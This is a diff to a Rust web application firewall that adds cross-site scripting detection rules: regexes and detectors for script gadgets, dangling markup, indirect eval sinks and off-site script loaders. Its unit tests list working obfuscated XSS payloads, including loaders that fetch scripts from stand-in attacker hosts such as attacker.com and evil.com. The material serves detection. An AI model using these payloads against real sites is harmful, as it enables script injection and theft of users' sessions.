@@ -3,6 +3,7 @@
 use super::pipelines::*;
 use super::targets::*;
 use super::{Category::Xss, Check::*, RuleDef, Severity::*, rule};
+use crate::waf::js::sink_reference;
 use crate::waf::xss::scan;
 
 fn dangerous_tag(s: &str) -> bool {
@@ -13,6 +14,19 @@ fn event_handler(s: &str) -> bool {
 }
 fn script_uri(s: &str) -> bool {
     s.contains('<') && scan(s).script_uri
+}
+
+/// Dangling markup is a tag left open at the end of the value; a leaking
+/// stylesheet needs `url(`: only then is the value scanned again.
+fn leaking_markup(s: &str) -> bool {
+    let open_tail = s.rfind('<').is_some_and(|p| !s[p..].contains('>'));
+    (open_tail || s.contains("url(")) && scan(s).leaks
+}
+fn offsite_markup(s: &str) -> bool {
+    (s.contains("url(") || s.contains("<form")) && scan(s).offsite
+}
+fn script_sink(s: &str) -> bool {
+    sink_reference(s)
 }
 
 pub(super) fn rules() -> Vec<RuleDef> {
@@ -92,7 +106,7 @@ pub(super) fn rules() -> Vec<RuleDef> {
             t,
             XSS,
             Regex(
-                r##"\b(?:alert|prompt|confirm)\s*(?:\(\s*(?:\d|document\b|window\b|this\b|top\b|self\b|location\b|/|['"]\s*xss|string\s*\.|atob\b|`)|`)|\bdocument\s*\.\s*(?:cookie\b|domain\b|write(?:ln)?\s*\()|\bstring\s*\.\s*fromcharcode\s*\(|\$\{\s*(?:alert|prompt|confirm|eval)\s*(?:\(|`)|\beval\s*\(\s*(?:atob|unescape|decodeuri\w*|string\b|location|name\b|window|this|`)|\.\s*innerhtml\s*=|\bwindow\s*\[\s*['"`]|\btop\s*\[\s*['"`]\w+['"`]\s*\+"##,
+                r##"\b(?:alert|prompt|confirm)\s*(?:\(\s*(?:\d|document\b|window\b|this\b|top\b|self\b|location\b|/|['"]\s*xss|string\s*\.|atob\b|`)|`)|\bdocument\s*\.\s*(?:cookie\b|domain\b|write(?:ln)?\s*\()|\bstring\s*\.\s*fromcharcode\s*\(|\$\{\s*(?:alert|prompt|confirm|eval)\s*(?:\(|`)|\beval\s*\(\s*(?:atob|unescape|decodeuri\w*|string\b|location|name\b|window|this|`)|\.\s*(?:inner|outer)html\s*\+?=|\bwindow\s*\[\s*['"`]|\btop\s*\[\s*['"`]\w+['"`]\s*\+"##,
             ),
             "XSS: script sink",
         ),
@@ -119,6 +133,68 @@ pub(super) fn rules() -> Vec<RuleDef> {
             "XSS: event handler injected into an attribute",
         ),
         rule(
+            941250,
+            Xss,
+            1,
+            Critical,
+            t,
+            XSS,
+            Detector(leaking_markup, b"<"),
+            "XSS: dangling markup or CSS that leaks the page",
+        ),
+        rule(
+            941260,
+            Xss,
+            1,
+            Critical,
+            t,
+            XSS,
+            Regex(
+                // A global's member picked by a computed string and called
+                // (`top['al'+'ert'](1)`, `parent[/al/.source+/ert/.source](1)`); a
+                // property name spelled only in escapes; `<` escaped for a JS string
+                // before a tag name; the Function constructor run from a string
+                // (`Function('code')()`, ``Set.constructor`code` ``); markup or a
+                // script URL handed to `write`/`open` as a tagged template.
+                r##"\b(?:top|parent|self|window|frames|globalthis|content|opener)\s*(?:\?\.\s*)?\[[^\]]{0,100}['"`/][^\]]{0,100}\]\s*(?:\?\.\s*)?\(|\[\s*['"`](?:\\(?:[0-7]{2,3}|x[0-9a-f]{2}|u[0-9a-f]{4}))+['"`]\s*\]|\\(?:x3c|u003c|u\{3c\}|0?74)\s*/?\s*(?:script|img|svg|iframe|body|object|embed|style|math|video|audio|details|input|image)\b|\bfunction\s*\(\s*['"`][^'"`]*['"`]\s*\)\s*\(|\.constructor\s*`|\.(?:write(?:ln)?|open)\s*`\s*(?:<|javas|vbs|data:|\\)"##,
+            ),
+            "XSS: script gadget (computed call, escaped name, Function from a string)",
+        ),
+        rule(
+            941270,
+            Xss,
+            1,
+            Critical,
+            t,
+            XSS,
+            Detector(script_sink, b"(=,[:?"),
+            "XSS: dialog or eval sink passed, assigned or called indirectly",
+        ),
+        rule(
+            941280,
+            Xss,
+            2,
+            Critical,
+            t,
+            XSS,
+            Detector(offsite_markup, b"<"),
+            "XSS: stylesheet or form that loads from or posts to another site",
+        ),
+        rule(
+            941290,
+            Xss,
+            2,
+            Critical,
+            t,
+            XSS,
+            // A script loader handed an absolute off-site URL: `importScripts(`,
+            // `$.getScript(`, a worker, a dynamic `import(`.
+            Regex(
+                r##"\b(?:importscripts|getscript|sharedworker|worker|import)\s*\(\s*['"`](?:https?:)?//"##,
+            ),
+            "XSS: script loaded from another site",
+        ),
+        rule(
             941230,
             Xss,
             2,
@@ -131,4 +207,65 @@ pub(super) fn rules() -> Vec<RuleDef> {
             "XSS: potentially active HTML tag",
         ),
     ]
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::waf::rules::fires;
+
+    #[test]
+    fn html_appended_to_the_dom_and_off_site_script_loaders_fire() {
+        assert!(fires(
+            941210,
+            "ws.onmessage = (e) => { document.body.innerHTML += e.data; }"
+        ));
+        assert!(fires(941210, "el.outerHTML = x"));
+        assert!(!fires(941210, "the innerHTML property"));
+        assert!(fires(
+            941290,
+            "importScripts('https://attacker.com/sw.js');"
+        ));
+        assert!(fires(
+            941290,
+            "onload=x=>$.getScript('//brutelogic.com.br/2.js')"
+        ));
+        assert!(fires(941290, "new SharedWorker('//evil.com/worker.js')"));
+        assert!(!fires(941290, "import('./module.js')"));
+        assert!(!fires(941290, "new Worker('worker.js')"));
+        assert!(!fires(941290, "import (see https://example.com)"));
+    }
+
+    #[test]
+    fn script_gadgets_fire_but_code_and_prose_do_not() {
+        for a in [
+            "top['al'+'ert'](1)",
+            "parent[\"alert\"](1)",
+            "top[/al/.source+/ert/.source](1)",
+            "self[`al`+`ert`](1)",
+            "[]['\\146\\151\\154\\164\\145\\162']",
+            "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
+            "\\74script\\76alert(1)\\74/script\\76",
+            "write('\\74img/src/o\\156error\\75alert\\501\\51\\76')",
+            "\\u003cscript\\u003ealert(1)",
+            "Function('return this')()",
+            "Set.constructor`alert\\x28document.domain\\x29```",
+            "top.open`javas\\cript:al\\ert\\x281\\x29`",
+            "document.write`<img src=x onerror=alert(1)>`",
+        ] {
+            assert!(fires(941260, a), "missed {a}");
+        }
+        for b in [
+            "window[key](args)",
+            "the top ['a'] list (b)",
+            "arr['name']",
+            "\\n<script> is escaped",
+            "function(a, b) { return a + b }",
+            "a.constructor.name",
+            "C:\\74 files",
+            "call `document.write` or `window.open` sparingly",
+            "String.raw`<b>`",
+        ] {
+            assert!(!fires(941260, b), "flagged {b}");
+        }
+    }
 }
